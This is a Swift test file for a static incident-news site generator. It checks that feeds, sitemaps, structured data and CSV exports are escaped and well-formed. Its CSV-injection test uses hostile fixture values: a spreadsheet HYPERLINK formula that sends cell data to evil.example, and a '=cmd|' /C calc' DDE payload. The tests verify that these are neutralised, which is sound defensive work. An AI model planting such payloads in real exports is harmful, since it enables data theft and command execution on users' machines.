import BlotterCore
import Foundation
import FoundationXML
import Testing

/// Feeds, sitemaps, structured data and open data of a small site.
@Suite struct FeedsAndDataTests {
    func makeSite() throws -> TestSite {
        try TestSite([
            "Content/incidents/a.md": incidentFile(title: "Old closed case", date: "2023-01-01T10:00:00Z")
                .replacingOccurrences(of: "status: developing", with: "status: closed"),
            "Content/incidents/b.md": """
                ---
                title: Live story <b>"quoted"</b> ]]> </script>
                date: 2025-12-31T20:00:00Z
                published: 2025-12-31T21:00:00Z
                location: {name: Ripple Road, area: Barking, lat: 51.5, lon: 0.1}
                status: developing
                summary: Something is happening.
                timeline:
                  - time: "20:05"
                    text: First *report*.
                updates:
                  - date: 2026-01-01T08:00:00Z
                    kind: correction
                    text: "The road is Ripple Road."
                  - date: 2025-12-31T22:00:00Z
                    text: "Correction: an update whose text says so is not typed as one."
                image: {src: /assets/images/weston-green.svg, alt: A map}
                ---
                Body.
                """,
        ])
    }

    /// Whether `text` is well-formed XML.
    func wellFormed(_ text: String) -> Bool { XMLParser(data: Data(text.utf8)).parse() }

    @Test func feedsAndSitemapsAreWellFormed() throws {
        let site = try makeSite()
        defer { site.delete() }
        try site.build()
        for path in site.outputFiles() where path.hasSuffix(".xml") {
            #expect(wellFormed(try site.read(path)), "\(path) is well-formed")
        }
        let atom = try site.read("feed.xml")
        #expect(atom.contains("<title>Live story &lt;b&gt;&quot;quoted&quot;&lt;/b&gt; ]]&gt; &lt;/script&gt;</title>"))
        #expect(atom.components(separatedBy: "<entry>").count - 1 == 2)
        #expect(atom.contains("<updated>2026-01-01T08:00:00+00:00</updated>"))
        for path in ["feed.json", "incidents.json"] {
            #expect((try? JSONSerialization.jsonObject(with: Data(try site.read(path).utf8))) != nil, "\(path) parses")
        }
        #expect(try site.read("robots.txt").contains("Sitemap: https://example.org/sitemap.xml"))
    }

    @Test func newsSitemapHoldsTheLast48Hours() throws {
        let site = try makeSite()
        defer { site.delete() }
        try site.build()
        let news = try site.read("news-sitemap.xml")
        #expect(news.components(separatedBy: "<url>").count - 1 == 1)
        #expect(news.contains("<loc>https://example.org/incidents/live-story-b-quoted-b-script/</loc>"))
        #expect(news.contains("<news:language>en</news:language>"))
    }

    @Test func structuredDataFollowsTheStatus() throws {
        let site = try makeSite()
        defer { site.delete() }
        try site.build()
        let live = try site.read("incidents/live-story-b-quoted-b-script/index.html")
        let block = try #require(HostileInputTests.jsonLD(in: live).first)
        #expect(!block.contains("</"))
        let json = try #require(try JSONSerialization.jsonObject(with: Data(block.utf8)) as? [String: Any])
        #expect(json["@type"] as? String == "LiveBlogPosting")
        #expect((json["liveBlogUpdate"] as? [[String: Any]])?.first?["headline"] as? String == "First report.")
        #expect((json["correction"] as? [[String: Any]])?.count == 1)
        let geo = (json["contentLocation"] as? [String: Any])?["geo"] as? [String: Any]
        #expect(geo?["latitude"] as? Double == 51.5)
        #expect(json["image"] as? [String] == ["https://example.org/assets/images/weston-green.svg"])
        #expect(live.contains("<meta property=\"og:image\" content=\"https://example.org/assets/images/weston-green.svg\">"))
        let closed = try site.read("incidents/old-closed-case/index.html")
        #expect(closed.contains("\"@type\":\"NewsArticle\""))
        #expect(closed.contains("<meta name=\"twitter:card\" content=\"summary\">"))
    }

    @Test func csvQuotesFieldsAndCountsRows() throws {
        let site = try makeSite()
        defer { site.delete() }
        try site.build()
        let csv = try site.read("incidents.csv")
        let rows = csv.components(separatedBy: "\r\n").filter { !$0.isEmpty }
        #expect(rows.count == 3)
        #expect(rows[1].hasPrefix("live-story-b-quoted-b-script,https://example.org/incidents/live-story-b-quoted-b-script/,\"Live story <b>\"\"quoted\"\"</b> ]]> </script>\","))
    }
}

/// `incidents.csv` opened in a spreadsheet runs nothing (OWASP's CSV injection rule).
@Suite struct CSVInjectionTests {
    @Test func textCellsThatStartAFormulaAreNeutralised() throws {
        let formula = #"=HYPERLINK("https://evil.example/?"&B2,"Open")"#
        let site = try TestSite([
            "Content/incidents/a.md": """
                ---
                title: '\(formula)'
                slug: a
                date: 2024-03-01T10:00:00Z
                location: {name: "+44 20 7946 0000", area: "@area", lat: -51.5, lon: -0.15}
                status: developing
                summary: A fire broke out.
                category: "-cmd"
                tags: ["=1+1"]
                content_warning: "=cmd|' /C calc'!A0"
                ---
                Body.
                """,
        ])
        defer { site.delete() }
        let result = try site.build()
        #expect(!result.failed, "\(result.diagnostics)")
        let rows = try site.read("incidents.csv").components(separatedBy: "\r\n")
        #expect(rows[1] == "a,https://example.org/incidents/a/,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&B2,\"\"Open\"\")\","
            + "2024-03-01T10:00:00+00:00,developing,A fire broke out.,'+44 20 7946 0000,'@area,-51.5,-0.15,'-cmd,,'=1+1,,,"
            + "'=cmd|' /C calc'!A0,2024-03-01T10:00:00+00:00,2024-03-01T10:00:00+00:00,0,0,0,,,0,0,0,,,")
        let json = try site.read("incidents.json")
        #expect(json.contains(#""title":"=HYPERLINK(\"https://evil.example/?\"\u0026B2,\"Open\")""#))
    }
}
